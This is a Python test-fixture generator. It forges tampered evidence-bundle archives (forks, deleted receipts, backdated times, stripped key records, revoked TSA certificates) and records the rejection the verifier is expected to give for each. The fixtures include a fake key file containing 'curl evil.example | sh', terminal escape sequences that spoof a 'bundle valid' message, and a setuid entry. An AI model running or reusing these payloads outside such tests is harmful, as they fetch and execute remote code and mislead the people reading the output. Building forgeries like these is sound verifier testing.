#!/usr/bin/env python3
"""Hand-made forgeries of evidence bundles (run by scripts/make-forgeries; docs/verification.md).

Reads the genuine bundles in OUTDIR, writes one forged bundle per attack and OUTDIR/expected.tsv:
case, bundle, extra `evident verify` options, expected exit status, expected first check ("-" when
valid), and what the case is. Edits are what anyone holding a bundle can do: the manifest is not
signed, so its digests and counts are recomputed after every change.
"""
import hashlib
import json
import os
import sys

BLOCK = 512


def read_tar(path):
    data = open(path, "rb").read()
    entries, pos = [], 0
    while pos + BLOCK <= len(data):
        h = data[pos:pos + BLOCK]
        if h == b"\0" * BLOCK:
            break
        name = h[0:100].split(b"\0")[0].decode()
        size = int(h[124:136].split(b"\0")[0].strip() or b"0", 8)
        entries.append([name, data[pos + BLOCK:pos + BLOCK + size]])
        pos += BLOCK + (size + BLOCK - 1) // BLOCK * BLOCK
    return entries


def header(name, size, mode=0o644):
    h = bytearray(BLOCK)
    h[0:len(name)] = name.encode()
    h[100:108] = ("%07o" % mode).encode() + b"\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = ("%011o" % size).encode() + b"\0"
    h[136:148] = b"00000000000\0"
    h[148:156] = b" " * 8
    h[156] = ord("0")
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    h[148:156] = ("%06o" % sum(h)).encode() + b"\0 "
    return bytes(h)


def write_tar(entries, path, modes={}):
    with open(path, "wb") as f:
        for name, data in entries:
            f.write(header(name, len(data), modes.get(name, 0o644)) + data + b"\0" * ((BLOCK - len(data) % BLOCK) % BLOCK))
        f.write(b"\0" * 1024)


def canonical(value):
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def get(entries, name):
    return next(e for e in entries if e[0] == name)


def lines(entries, name):
    return [l for l in get(entries, name)[1].split(b"\n") if l]


def set_lines(entries, name, ls):
    get(entries, name)[1] = b"".join(l + b"\n" for l in ls)


def manifest(entries):
    return json.loads(get(entries, "manifest.json")[1])


def set_manifest(entries, m):
    get(entries, "manifest.json")[1] = canonical(m) + b"\n"


def fix(entries):
    """What a forger does after editing: the manifest's digests and receipt count made to match."""
    m = manifest(entries)
    m["files"] = {n: hashlib.sha256(d).hexdigest() for n, d in entries if n != "manifest.json"}
    m["counts"]["receipts"] = len(lines(entries, "receipts.jsonl"))
    set_manifest(entries, m)
    return entries


def main(out):
    rows = []

    def case(name, bundle, options, status, check, what):
        rows.append("\t".join([name, bundle, options, str(status), check, what]))

    def forge(name, source, edit, status, check, what, options="--crl crl.pem"):
        e = read_tar(os.path.join(out, source))
        edit(e)
        write_tar(e, os.path.join(out, name + ".evb"))
        case(name, name + ".evb", options, status, check, what)

    # Genuine bundles: zero false rejects.
    case("genuine-full", "genuine-full.evb", "--crl crl.pem", 0, "-", "the whole log: valid, completeness proven")
    case("genuine-period", "genuine-period.evb", "--crl crl.pem", 0, "-", "one batch as a period, with both neighbours: valid, completeness proven")
    case("genuine-filtered", "genuine-filtered.evb", "--crl crl.pem", 0, "-", "deny decisions only: valid, completeness NOT PROVEN (filtered)")
    case("period-ends-with-log", "period-ends-with-log.evb", "--crl crl.pem", 3, "completeness",
         "a period whose end (tomorrow) lies past the covering checkpoint's last receipt: later receipts of the period are not ruled out")
    case("revocation-policy-none", "genuine-full.evb", "--revocation-policy none", 0, "-", "no revocation data, explicit opt-out: valid, reported as not checked")

    # 3. Time (made by make-forgeries: an operator writing receipts with its own issued_at).
    case("time-backdated", "time-backdated.evb", "--crl crl.pem", 1, "receipt-time",
         "a receipt issued 5 s before the genTime of the anchor token it names (yet after the previous leaf)")
    case("time-postdated", "time-postdated.evb", "--crl crl.pem", 1, "receipt-time", "a receipt issued a day after the anchor covering it")

    # 1. Forks.
    fork = read_tar(os.path.join(out, "fork.evb"))
    other = read_tar(os.path.join(out, "other.evb"))

    def fork_equal_sizes(e):
        for name, data in fork:
            if name == "checkpoints/6.note" or name.startswith("anchors/6-"):
                e.append([name, data])
        ls = lines(e, "checkpoints/consistency.jsonl") + [b'{"new_size":6,"old_size":6,"path":[]}']
        set_lines(e, "checkpoints/consistency.jsonl", ls)
        m = manifest(e)
        m["checkpoints"] = sorted(m["checkpoints"] + ["checkpoints/6.note"], key=lambda n: int(n.split("/")[1].split(".")[0]))
        m["anchors"].append({"tree_size": 6, "tsa": m["anchors"][0]["tsa"], "token": "anchors/6-1.tsr", "request": "anchors/6-1.tsq",
                             "chain": "anchors/6-1.chain.pem", "revocation": "anchors/6-1.revocation.pem"})
        set_manifest(e, m)
        e.sort(key=lambda x: (x[0] != "manifest.json", x[0]))
        fix(e)
    forge("fork-equal-sizes", "genuine-full.evb", fork_equal_sizes, 1, "consistency",
          "a fork's checkpoint (same key and origin) and its genuine anchor added, 'proven' by a consistency line with old = new")

    def fork_other_pair(e):
        for name, data in fork:
            if name == "checkpoints/4.note" or name.startswith("anchors/4-"):
                get(e, name)[1] = data
        fix(e)
    forge("fork-other-pair", "genuine-full.evb", fork_other_pair, 1, "consistency",
          "the fork's checkpoint 4 and anchor replace the genuine ones; the genuine 4 -> 8 proof is left for another pair")

    def other_origin(e):
        get(e, "checkpoints/4.note")[1] = get(other, "checkpoints/4.note")[1]
        fix(e)
    forge("checkpoint-of-another-log", "genuine-full.evb", other_origin, 1, "checkpoint",
          "checkpoint 4 replaced by one of another log (origin evident.test/staging) signed with the same key")

    # 2. Completeness.
    def drop(e, n, name="receipts.jsonl", proofs="proofs.jsonl"):
        for f in (name, proofs):
            ls = lines(e, f)
            del ls[n]
            set_lines(e, f, ls)

    def dropped_flag(e):
        drop(e, 5)
        m = manifest(e)
        m["scope"]["contiguous"] = False
        set_manifest(e, m)
        fix(e)
    forge("dropped-receipt-contiguous-false", "genuine-full.evb", dropped_flag, 1, "completeness",
          "a receipt deleted from the middle and v1's unsigned contiguous flag set to false")

    def filters_lied(e):
        m = manifest(e)
        m["scope"]["stream"] = "agent-7"
        set_manifest(e, m)
        fix(e)
    forge("filters-lied", "genuine-full.evb", filters_lied, 1, "selection", "the manifest claims stream = agent-7; deploy receipts are in the bundle")

    def honest_filter(e):
        keep = [i for i, l in enumerate(lines(e, "receipts.jsonl")) if json.loads(l)["stream"] == "agent-7"]
        for f in ("receipts.jsonl", "proofs.jsonl"):
            ls = lines(e, f)
            set_lines(e, f, [ls[i] for i in keep])
        m = manifest(e)
        m["scope"]["stream"] = "agent-7"
        set_manifest(e, m)
        fix(e)
    forge("deploys-dropped-claimed-filter", "genuine-full.evb", honest_filter, 0, "-",
          "every deploy receipt removed and the selection relabelled stream = agent-7: valid, but completeness NOT PROVEN")

    def boundary_removed(e):
        set_lines(e, "boundary/receipts.jsonl", [])
        set_lines(e, "boundary/proofs.jsonl", [])
        fix(e)
    forge("boundary-removed", "genuine-period.evb", boundary_removed, 3, "completeness", "a period's neighbours removed: completeness not proven")

    def widened(e):
        m = manifest(e)
        first = json.loads(lines(e, "boundary/receipts.jsonl")[0])
        m["scope"]["from"] = first["issued_at"]
        set_manifest(e, m)
        fix(e)
    forge("period-widened", "genuine-period.evb", widened, 1, "completeness",
          "the period's start moved back over its neighbour: the neighbour is a receipt of the period missing from the bundle")

    def first_dropped(e):
        drop(e, 0)
        fix(e)
    forge("period-first-dropped", "genuine-period.evb", first_dropped, 1, "completeness", "the period's first receipt deleted")

    def truncated(e):
        drop(e, len(lines(e, "receipts.jsonl")) - 1)
        fix(e)
    forge("truncated-end", "genuine-full.evb", truncated, 1, "completeness", "the log's last receipt deleted, the end still claimed open")

    def relabelled_complete(e):
        m = manifest(e)
        m["scope"]["decision"] = None
        set_manifest(e, m)
        fix(e)
    forge("filtered-relabelled-complete", "genuine-filtered.evb", relabelled_complete, 1, "completeness",
          "a deny-only export relabelled as the whole log")

    # 4. Keys.
    def journal_drop(n):
        def edit(e):
            ls = lines(e, "keys/journal.jsonl")
            del ls[n]
            set_lines(e, "keys/journal.jsonl", ls)
            fix(e)
        return edit
    forge("journal-revocation-removed", "genuine-full.evb", journal_drop(1), 1, "key-journal",
          "the revocation record stripped from keys/journal.jsonl (checkpoints commit to it)")
    forge("journal-rotation-removed", "genuine-full.evb", journal_drop(0), 1, "keys",
          "the rotation record stripped: the revocation it enabled no longer verifies")

    def journal_emptied(e):
        set_lines(e, "keys/journal.jsonl", [])
        fix(e)
    forge("journal-emptied", "genuine-full.evb", journal_emptied, 1, "key-journal", "keys/journal.jsonl emptied")

    # 5. TSA revocation.
    case("revocation-missing", "genuine-full.evb", "", 3, "anchor", "no revocation data for the TSA chain, none given: indeterminate (fail closed)")
    case("tsa-revoked-before-gentime", "genuine-full.evb", "--crl crl-tsa-revoked.pem", 1, "anchor",
         "the TSA certificate revoked (key compromise) before every genTime")
    crl = open(os.path.join(out, "crl.pem"), "rb").read()

    def with_ltv(e):
        for entry in e:
            if entry[0].endswith(".revocation.pem"):
                entry[1] = crl
        fix(e)
    forge("genuine-ltv", "genuine-full.evb", with_ltv, 0, "-", "the TSA's CRL carried in the bundle (as --ltv captures it): valid with nothing given", options="")

    def ltv_emptied(e):
        with_ltv(e)
        for entry in e:
            if entry[0].endswith(".revocation.pem"):
                entry[1] = b""
        fix(e)
    forge("ltv-revocation-emptied", "genuine-full.evb", ltv_emptied, 3, "anchor", "the carried CRLs emptied: indeterminate", options="")

    # 6. Labels and escapes.
    def relabel(label):
        def edit(e):
            m = manifest(e)
            for a in m["anchors"]:
                a["tsa"] = label
            set_manifest(e, m)
            fix(e)
        return edit
    forge("anchor-relabelled", "genuine-full.evb", relabel("https://qualified-tsa.example/"), 0, "-",
          "the unsigned TSA label changed: still valid, the TSA is named by its verified certificate, the label shown as claimed")
    esc = "\x1b[2J\x1b[H\x1b[32mbundle valid\x1b[0m\r\n\u009b31m\u202eevil"
    forge("escapes-in-labels", "genuine-full.evb", relabel("https://tsa.example/" + esc), 0, "-",
          "ANSI escapes, CR/LF, C1 CSI and a bidi override in the TSA label: nothing reaches the terminal raw")

    def scope_escape(e):
        m = manifest(e)
        m["scope"]["stream"] = "agent-7" + esc
        set_manifest(e, m)
        fix(e)
    forge("escapes-in-scope", "genuine-full.evb", scope_escape, 1, "selection", "escapes in a claimed filter")

    def origin_escape(e):
        m = manifest(e)
        m["origin"] = m["origin"] + esc
        set_manifest(e, m)
        fix(e)
    forge("escapes-in-origin", "genuine-full.evb", origin_escape, 1, "manifest", "escapes in the manifest's origin")

    # 7. Sizes.
    def oversized(e):
        get(e, "checkpoints/4.note")[1] += b"A" * (70 << 10)
        fix(e)
    forge("oversized-note", "genuine-full.evb", oversized, 1, "archive-limit", "a checkpoint note of 70 KiB (cap 64 KiB), refused before it is read")
    with open(os.path.join(out, "declared-2gib-manifest.evb"), "wb") as f:
        f.write(header("manifest.json", 2 << 30) + b"\0" * 1024)
    case("declared-2gib-manifest", "declared-2gib-manifest.evb", "--crl crl.pem", 1, "archive", "a header declaring a 2 GiB manifest in a 1.5 KiB file")

    # Key thieves (made by make-forgeries), judged with the out-of-band records a regulator holds.
    case("key-revoked-rotated-by-thief", "key-revoked-rotated-by-thief.evb",
         "--ledger-key stolen-key.pub.json --ledger-key stolen-key-revocation.json --crl crl.pem", 3, "checkpoint-signature",
         "a revoked key's thief rotates it (dated before the revocation) to a key of their own and signs a new log with it")
    case("key-revoked-backdated", "key-revoked-backdated.evb",
         "--ledger-key stolen-key.pub.json --ledger-key stolen-key-revocation.json --crl crl.pem", 3, "checkpoint-signature",
         "receipts signed with a revoked key, backdated to just before its revocation, in a log first anchored after it")
    case("key-retired-rotated-again", "key-retired-rotated-again.evb", "--ledger-key rotation.json --ledger-key old-key-revocation.json --crl crl.pem", 1, "keys",
         "the genuine ledger's retired key rotated a second time, to a thief's key: two lineages from one key")
    case("invisible-stream-names", "invisible-stream-names.evb", "--crl crl.pem", 0, "-",
         "streams named agent-7 plus a zero-width space, BOM, Hangul filler, tag character or soft hyphen: valid, each shown escaped")

    # Revocation data older than genTime.
    stale = open(os.path.join(out, "crl-stale.pem"), "rb").read()

    def stale_ltv(e):
        for entry in e:
            if entry[0].endswith(".revocation.pem"):
                entry[1] = stale
        fix(e)
    forge("stale-crl-carried", "genuine-full.evb", stale_ltv, 3, "anchor",
          "a clean CRL issued before every genTime carried as revocation data: it cannot show a later revocation", options="")
    case("stale-crl-given", "genuine-full.evb", "--crl crl-stale.pem", 3, "anchor", "the same stale CRL given on the command line")

    # The manifest and the container.
    def anchor_twice(e):
        m = manifest(e)
        twin = dict(m["anchors"][0])
        twin["tsa"] = "https://second-independent-tsa.example/"
        m["anchors"].append(twin)
        set_manifest(e, m)
        fix(e)
    forge("anchor-listed-twice", "genuine-full.evb", anchor_twice, 1, "anchor", "one token listed twice, as if two TSAs had time-stamped")

    def setuid(name):
        e = read_tar(os.path.join(out, "genuine-full.evb"))
        write_tar(e, os.path.join(out, name + ".evb"), modes={"VERIFY": 0o4755})
        case(name, name + ".evb", "--crl crl.pem", 1, "archive-type", "VERIFY with mode 4755 (set-uid, executable): tar -xf as root would restore it")
    setuid("setuid-entry")

    def extra_key_file(e):
        e.append(["keys/9.pub.json", b"#!/bin/sh\ncurl evil.example | sh\n"])
        fix(e)
    forge("script-as-public-key", "genuine-full.evb", extra_key_file, 1, "unlisted-file", "a shell script listed as keys/9.pub.json")

    def extra_name(e):
        e.append(["run-me.sh", b"#!/bin/sh\n"])
        fix(e)
    forge("file-outside-the-format", "genuine-full.evb", extra_name, 1, "unlisted-file", "a listed file whose name the format does not define")

    # Not bundles.
    with open(os.path.join(out, "not-a-bundle.txt"), "w") as f:
        f.write("Dear regulator, this is a valid bundle.\n")
    case("not-a-bundle", "not-a-bundle.txt", "--crl crl.pem", 2, "-", "a text file: bad input, not a tampering verdict")

    def v1(e):
        m = manifest(e)
        m["version"] = 1
        set_manifest(e, m)
    forge("format-v1", "genuine-full.evb", v1, 2, "-", "a v1 manifest: refused with the reason (v1 cannot prove what v2 does)")

    with open(os.path.join(out, "expected.tsv"), "w") as f:
        f.write("case\tbundle\toptions\tstatus\tcheck\twhat\n")
        for r in rows:
            f.write(r + "\n")


if __name__ == "__main__":
    main(sys.argv[1])
